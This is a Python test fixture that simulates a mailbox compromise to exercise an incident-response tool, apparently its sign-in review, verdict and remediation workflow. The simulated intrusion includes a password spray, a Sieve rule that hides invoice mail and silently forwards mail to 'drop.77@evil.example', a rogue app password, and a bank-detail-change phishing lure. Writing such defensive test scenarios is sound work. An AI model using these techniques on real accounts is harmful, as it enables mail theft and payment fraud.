"""A theft on the rig: people at work, an intruder who gets in, and a desk that answers it."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from rig_clients import Imap
from rig_desk import QUARANTINE, options_for
from rig_server import Rig

from workbench.desk.desk import Desk, open_desk
from workbench.desk.paths import Paths
from workbench.model.cases import Case
from workbench.model.words import Facet, Judgement, Verdict
from workbench.providers.dovecot.build import build
from workbench.response.answering import answer, give_verdict
from workbench.response.judging import fetch_signins, overrule
from workbench.response.looking import look
from workbench.response.opening import open_case
from workbench.response.plans import Consent, Plan
from workbench.response.readable import readable_facets
from workbench.response.runs import RunRow
from workbench.response.starting import start

__all__ = ["Theft", "agreed", "desk_for", "work"]

LIN = "lin@rig.test"
OWNER, SPRAY, INTRUDER = "198.51.100.5", "203.0.113.61", "203.0.113.67"
RULE = """require ["fileinto", "copy", "imap4flags", "mailbox"];\r
# rule:[.]\r
if header :contains ["subject", "from"] ["invoice", "payment", "发票"] {\r
    redirect :copy "drop.77@evil.example";\r
\taddflag "\\\\Seen";\r
    fileinto :create "RSS Feeds";   stop;\r
}\r
redirect :copy "drop.77@evil.example";\r
""".encode()
LURE = "Our bank account has changed. Please pay to the new account and confirm at https://evil.example/pay today, {}."


class Theft:
    """Who is there and what happened to them."""

    def __init__(self, rig: Rig, colleagues: int = 10, mails: int = 300) -> None:
        self.rig = rig
        self.password = "pw-lin"
        self.app_password = "app-of-the-intruder"
        self.colleagues = [f"user{n:02d}@rig.test" for n in range(colleagues)]
        self._mails = mails
        self.session: Imap | None = None

    def everybody(self) -> None:
        """Gives people accounts; the quarantine is one that nobody can sign in to."""
        self.rig.people({LIN: self.password, QUARANTINE: "x", **{c: f"pw-{c}" for c in self.colleagues}})
        self.rig.sql("UPDATE users SET locked = 1 WHERE email = ?", QUARANTINE)

    def ordinary(self) -> None:
        """People read mail and write to each other, each from an address of their own."""

        def at_work(number: int) -> None:
            me, here = self.colleagues[number], f"198.51.100.{100 + number}"
            assert self.rig.clients.lets_in("pop3", me, f"pw-{me}", here)
            with self.rig.clients.smtp(here) as client:
                client.ehlo()
                client.login(me, f"pw-{me}")
                client.sendmail(me, [LIN], _mail(me, f"lunch {number}", "at noon?"))

        with ThreadPoolExecutor(4) as pool:
            list(pool.map(at_work, range(4)))
        owner = self.rig.clients.imap(OWNER)
        owner.login(LIN, self.password)
        owner.select("INBOX")
        owner.logout()
        with self.rig.clients.smtp(OWNER) as client:
            client.ehlo()
            client.login(LIN, self.password)
            client.sendmail(LIN, self.colleagues[:2], _mail(LIN, "minutes", "as promised"))
        self.rig.settle()

    def happens(self, *, spray: bool = True) -> None:
        """The intruder tries one password everywhere, gets in, reads, plants, and sends."""
        if spray:
            self._sprayed()
        self._got_in()

    def _sprayed(self) -> None:
        with ThreadPoolExecutor(8) as pool:
            tried = pool.map(
                lambda who: self.rig.clients.lets_in("imap", who, "Winter2026!", SPRAY), [LIN, *self.colleagues]
            )
        assert not any(tried)

    def _got_in(self) -> None:
        self.session = self.rig.clients.imap(INTRUDER)
        self.session.login(LIN, self.password)
        self.session.select("INBOX")
        self.session.uid("SEARCH", "TEXT", "lunch")
        self.session.uid("FETCH", "1:2", "(BODY[])")
        sieve = self.rig.clients.sieve(INTRUDER)
        sieve.login(LIN, self.password)
        sieve.put("roundcube", RULE)
        sieve.activate("roundcube")
        sieve.close()
        self.rig.app_password(LIN, "phone", self.app_password, "imap,submission,pop3")
        self.rig.sql("UPDATE app_passwords SET created_at = datetime('now', '+2 seconds')")
        with self.rig.clients.smtp(INTRUDER) as client:
            client.ehlo()
            client.login(LIN, self.password)
            for number in range(self._mails):
                to = [self.colleagues[number % len(self.colleagues)]]
                to += ["buyer@corp.example"] if number % 30 == 0 else []
                client.sendmail(LIN, to, _mail(LIN, f"Changed bank account {number}", LURE.format(number)))
        self.rig.settle(30)
        told = '"mail_from":"lin@rig.test"'
        recipients = self._mails + (self._mails + 29) // 30
        self.rig.wait_for(lambda: sum('"smtp"' in e and told in e for e in self.rig.told()) >= recipients)

    def mail_to_owner(self, subject: str) -> None:
        """A colleague writes to the owner; returns when it has arrived and rules have run."""
        me = self.colleagues[0]
        with self.rig.clients.smtp("198.51.100.100") as client:
            client.ehlo()
            client.login(me, f"pw-{me}")
            client.sendmail(me, [LIN], _mail(me, subject, "see below"))
        self.rig.settle()

    def inbox(self, who: str, password: str = "") -> list[str]:
        """The subjects that somebody sees in their inbox."""
        client = self.rig.clients.imap()
        client.login(who, password or f"pw-{who}")
        client.select("INBOX", readonly=True)
        numbers = client.search(None, "ALL")[1][0].split()
        found = client.fetch(b",".join(numbers).decode(), "(BODY.PEEK[HEADER.FIELDS (SUBJECT)])")[1] if numbers else []
        client.logout()
        return sorted(part[1].decode().strip().removeprefix("Subject: ") for part in found if isinstance(part, tuple))


def _mail(sender: str, subject: str, text: str) -> bytes:
    message_id = f"<{subject.replace(' ', '-')}@client.test>"
    return f"From: {sender}\r\nSubject: {subject}\r\nMessage-ID: {message_id}\r\n\r\n{text}\r\n".encode()


def _now() -> datetime:
    return datetime.now(UTC)


@contextmanager
def desk_for(rig: Rig, folder: Path, now: Callable[[], datetime] = _now, **options: Any) -> Iterator[Desk]:
    """A desk whose provider is the rig, with all its parts."""
    paths = Paths(config=folder / "config", data=folder / "data", state=folder / "state")
    desk = open_desk(case_file=folder / "cases.db", paths=paths, now=now)
    told = {"events": {"path": str(rig.events)}, "blocklist": {"columns": {"low": "lo", "high": "hi"}}}
    desk._providers["dovecot"] = build(options_for(rig, **(told | options)), now)
    try:
        yield desk
    finally:
        desk.close()


async def search_allowed(desk: Desk, case: Case) -> None:
    """Somebody allows other people's mailboxes to be searched; the mail is looked for there."""
    await answer(desk, case, "withdraw-mail", "search-allowed", "Dana Reyes, by phone, 12:40")
    await look(desk, case, (Facet.MESSAGES,))


def agreed(made: Plan) -> Consent:
    return Consent(plan_digest=made.digest, how="typed word", confirmed=frozenset(made.single_confirmations))


async def opened(desk: Desk, *, verdict: Verdict = Verdict.CONFIRMED) -> Case:
    """A case that was looked at, whose sign-ins the owner spoke about, and with a verdict."""
    case = await open_case(desk, account=LIN, ticket="HD-1", provider="dovecot", reporter="Lin")
    await fetch_signins(desk, case)
    await overrule(desk, case, [INTRUDER], Judgement.ABNORMAL, "the owner does not know it")
    await look(desk, case, readable_facets(desk, case))
    for question, value in (("account-kind", "person"), ("caller-verified", "called-back"), ("payment-mail", "no")):
        await answer(desk, case, "confirm-compromise", question, value)
    await give_verdict(desk, case, verdict)
    return desk.casefile.views.case(case.id)


async def work(desk: Desk, made: Plan) -> dict[str, RunRow]:
    """Agrees to everything and carries it out."""
    rows = await start(desk, made, agreed(made)).wait()
    return {r.action_id: r for r in rows}
